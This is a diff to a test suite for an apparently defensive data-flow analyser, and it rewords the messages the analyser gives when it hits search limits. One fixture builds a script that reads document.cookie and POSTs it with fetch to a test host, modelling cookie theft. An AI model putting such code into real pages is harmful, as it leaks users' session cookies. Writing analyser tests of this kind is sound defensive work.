@@ -5,7 +5,7 @@ import { factsOf } from '../../testing/facts-of.ts';
 import { analyse } from './analyse.ts';
 
 describe('what the bounds of a script cut', () => {
-  const followed = 'data in it leads further than it is followed';
+  const followed = 'the search for flows in it ended at its bound, so that some may be missing';
   const kept = 'holds more facts than are kept; the first ones were';
   const scripts: readonly [string, string, string][] = [
     ['sinks past the first 1,500', 'fetch(address);\n'.repeat(1_501), followed],
@@ -67,7 +67,10 @@ describe('an unusually long way of data', () => {
       `const tide0 = document.cookie;\n${hops.join('\n')}\nfetch('https://tides.test', { method: 'POST', body: tide130 });`,
     );
     assert.deepEqual(limited, [
-      { what: 'worker.js', why: 'some data in it has a longer way than is followed' },
+      {
+        what: 'worker.js',
+        why: 'single values in it have ways too long to follow; all others were followed',
+      },
     ]);
     assert.deepEqual(skipped, []);
   });
